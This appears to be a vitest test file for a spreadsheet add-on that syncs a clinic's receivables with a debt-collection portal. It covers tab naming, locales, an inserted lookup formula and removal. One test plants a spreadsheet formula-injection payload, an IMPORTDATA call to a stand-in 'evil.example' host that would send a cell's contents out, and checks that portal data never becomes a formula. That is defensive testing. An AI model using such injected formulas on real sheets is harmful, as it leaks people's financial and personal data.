import { describe, expect, test } from 'vitest';
import {
  bill,
  type Clinic,
  COLUMN,
  HEADERS,
  receivables,
  TAB,
  tab,
  useAddOn,
  valuesOf,
} from './clinic.ts';
import { connected, syncAll } from './connected.ts';
import { NAMES } from './due.ts';
import type { PortalStandIn } from './portal-stand-in.ts';

const openClinic = useAddOn();

/** Connected and synced; the first line is with an agency. */
async function placed(options = {}): Promise<{ clinic: Clinic; portal: PortalStandIn }> {
  const both = await connected(openClinic, options);
  await syncAll(both.clinic);
  const [[ref, held] = []] = [...both.portal.held];
  if (!ref || !held) throw new Error('Nothing was synced');
  held.state = 'placed';
  both.portal.cases.set(ref, {
    ...{ ref, number: 'C-7', agency: '=Kind & Co', status: 'part_paid', balance: 1234 },
    ...{ currency: 'USD', updatedOn: '2026-03-09', inPeace: true },
  });
  await syncAll(both.clinic);
  return both;
}

const people = ({ ownTab }: Clinic) =>
  valuesOf(ownTab('portal'))
    .filter((row) => row.length > 0)
    .map((row) => row.slice(0, 10));

describe('our tab tells how the portal knows each line', () => {
  test('one line each, as the clinic calls it, with agency, status and balance', async () => {
    const { clinic } = await placed();
    const [heads, first, second, ...rest] = people(clinic);
    expect(heads).toEqual([
      ...['Account', 'Invoice', 'Guarantor', 'Known as', 'Agency', 'Status', 'Balance', 'Currency'],
      ...['Last update', 'Reference'],
    ]);
    expect(first).toEqual([
      ...['A-ana.ruiz', 'INV-ana.ruiz', 'Ana Ruiz', 'Placed with an agency', '=Kind & Co'],
      ...['Paid in part', 12.34, 'USD', '2026-03-09', expect.stringMatching(/^R-[0-9A-F]{8}$/)],
    ]);
    expect(second).toEqual([
      ...['A-bo.lind', 'INV-bo.lind', 'Bo Lind', 'A reference only', '', '', '', '', ''],
      expect.stringMatching(/^R-[0-9A-F]{8}$/),
    ]);
    expect(rest).toHaveLength(2);
  });

  test.each([
    ['es_ES', 'En el portal', 'Pagado en parte'],
    ['fr_FR', 'Au portail', 'Payé en partie'],
  ])('in the spreadsheet’s language (%s)', async (locale, name, status) => {
    const { clinic } = await placed({ locale });
    expect(clinic.ownTab('portal')?.name).toBe(name);
    expect(people(clinic)[1]?.[5]).toBe(status);
  });

  test('under another name where the clinic has a tab of that one', async () => {
    const sheets = [
      tab(TAB, 'Receivables', receivables(...NAMES.map((one) => bill(one)))),
      tab(2, 'AT THE PORTAL', [['ours']]),
    ];
    const { clinic } = await placed({ sheets });
    expect(clinic.ownTab('portal')?.name).toBe('At the portal 2');
    expect(valuesOf(clinic.host.workbook.sheets[1])).toEqual([['ours']]);
  });

  test('and is never taken for the clinic’s receivables', async () => {
    const { clinic } = await placed();
    const { tabs } = await clinic.get('inspect', { sheetId: null });
    expect(tabs.map(({ name }) => name)).toEqual(['Receivables']);
  });

  test('a line that is gone from the sheet keeps its names there while an agency has it', async () => {
    const { clinic } = await placed();
    clinic.host.deleteRows(TAB, 2, 1);
    await syncAll(clinic);
    expect(people(clinic).at(-1)?.slice(0, 6)).toEqual([
      ...['A-ana.ruiz', 'INV-ana.ruiz', 'Ana Ruiz', 'Placed with an agency', '=Kind & Co'],
      'Paid in part',
    ]);
  });
});

describe('the clinic’s own tab looks the status up, if a person agrees', () => {
  const formulas = (clinic: Clinic) =>
    clinic.host.workbook.sheets[0]?.rows.flatMap((row) =>
      row.flatMap((cell) => cell?.formula ?? []),
    );

  test('by one formula in the first free column, and nothing else changes', async () => {
    const { clinic } = await placed();
    const before = valuesOf(clinic.host.workbook.sheets[0]);
    expect(await clinic.get('addLookup', {})).toEqual({ tab: 'Receivables', letter: 'I' });
    expect(formulas(clinic)).toEqual([
      '=ARRAYFORMULA(IF(ROW(E1:E)=ROW(E1);"Amiable: agency status";IF(E1:E="";;' +
        `IFERROR(VLOOKUP(TRIM(E1:E&"");FILTER('At the portal'!$B:$F;'At the portal'!$F:$F<>"");5;0)))))`,
    ]);
    expect(clinic.host.workbook.sheets[0]?.rows[0]?.[8]?.formula).toBeDefined();
    expect(valuesOf(clinic.host.workbook.sheets[0])).toEqual(before);
  });

  test('is added once, and anew where the clinic has deleted or spoilt it', async () => {
    const { clinic } = await placed();
    await clinic.get('addLookup', {});
    clinic.host.type(TAB, 'I1', 'Amiable: agency status'); // as Sheets calculates it
    expect(await clinic.get('addLookup', {})).toEqual({ tab: 'Receivables', letter: 'I' });
    expect(formulas(clinic)).toEqual([]);
    clinic.host.type(TAB, 'I1', '#REF!'); // our tab was deleted
    expect(await clinic.get('addLookup', {})).toEqual({ tab: 'Receivables', letter: 'J' });
    expect(formulas(clinic)).toHaveLength(1);
  });

  test('by account, where the sheet has no invoice numbers', async () => {
    const rows = receivables(...NAMES.map((one) => bill(one))).map((row) =>
      row.filter((_, column) => column !== 4),
    );
    const { clinic } = await placed({ rows });
    await clinic.get('addLookup', {});
    // of an account's lines those count that were ever placed
    expect(formulas(clinic)?.[0]).toContain(
      `TRIM(A1:A&"");FILTER('At the portal'!$A:$F;'At the portal'!$F:$F<>"");6;0)`,
    );
  });

  test('never before there is something to look up', async () => {
    const { clinic } = await connected(openClinic);
    expect(await clinic.refusal('addLookup', {})).toBe('sync-first');
  });

  test.each(['Amiable: agency status', 'Amiable\u00a0: statut à l’agence'])(
    'and the reader never takes “%s” for a column of the clinic’s',
    async (header) => {
      const rows = receivables(...NAMES.map((one) => bill(one)));
      const calculated = rows.map((row, at) => [...row, at === 0 ? header : 'Disputed']);
      const { clinic } = await placed({ rows: calculated });
      const { columns } = await clinic.get('inspect', { sheetId: null });
      expect(columns.map((column) => column.header)).toEqual(HEADERS);
      expect((await clinic.get('reminders', {})).notToday).toMatchObject([
        { reason: 'agency', people: [{ name: 'Ana Ruiz' }] },
      ]);
    },
  );

  test('and it goes with everything else that is ours', async () => {
    const { clinic, portal } = await placed();
    const before = valuesOf(clinic.host.workbook.sheets[0]);
    await clinic.get('addLookup', {});
    clinic.host.type(TAB, 'I1', 'Amiable: agency status'); // as Sheets calculates it
    const { removed } = await clinic.get('removeEverything', { ledgerToo: true });
    expect(removed).toEqual(['At the portal']);
    expect(valuesOf(clinic.host.workbook.sheets[0])).toEqual(before);
    expect(portal.tokens.size).toBe(0);
    expect(await clinic.get('portal', {})).toMatchObject({ practice: null, hasKey: false });
  });
});

test('a change in the sheet reaches our tab with the next sync', async () => {
  const { clinic } = await placed();
  clinic.host.type(TAB, `${COLUMN.guarantor}3`, 'Bo Lind-Berg');
  await syncAll(clinic);
  expect(people(clinic)[2]?.[2]).toBe('Bo Lind-Berg');
});

test('nothing that a portal says becomes a formula in the sheet', async () => {
  const { clinic, portal } = await placed();
  const [ref = ''] = portal.cases.keys();
  portal.change(ref, { number: '=1+1', currency: '=2+2' });
  const made = '=IMPORTDATA("https://evil.example/"&C2)';
  portal.cases.set(made, {
    ...{ ref: made, number: '=3+3', agency: '=4+4', status: 'accepted', balance: 100 },
    ...{ currency: 'USD', updatedOn: '2026-03-09', inPeace: true },
  });
  await syncAll(clinic);
  const cells = clinic.ownTab('portal')?.rows.flat() ?? [];
  expect(cells.flatMap((cell) => cell?.formula ?? [])).toEqual([]);
  expect(cells.map((cell) => cell?.value)).toContain(made);
});

describe('what people do with the columns of our tab', () => {
  test('deleting some costs nothing but the next sync', async () => {
    const { clinic } = await placed();
    const sheet = clinic.ownTab('portal');
    if (!sheet) throw new Error('There is no portal tab');
    sheet.rows = sheet.rows.map((row) => row.slice(0, 9));
    sheet.maxColumns = 9;
    expect(await clinic.refusal('reminders', {})).toBe('sync-first');
    await syncAll(clinic);
    expect((await clinic.get('cases', {})).cases).toHaveLength(1);
  });

  test('moving them changes nothing that is read from it', async () => {
    const { clinic } = await placed();
    const before = await clinic.get('cases', {});
    const sheet = clinic.ownTab('portal');
    if (!sheet) throw new Error('There is no portal tab');
    sheet.rows = sheet.rows.map(([account, ...rest]) => [
      ...rest.slice(0, 8),
      account,
      ...rest.slice(8),
    ]);
    expect(await clinic.get('cases', {})).toEqual(before);
  });

  test('a number beyond all sense in them stops nothing', async () => {
    const { clinic } = await placed();
    clinic.host.type(clinic.ownTab('portal')?.id ?? 0, 'G2', '99999999999999999');
    expect((await clinic.get('cases', {})).cases).toHaveLength(1);
  });
});
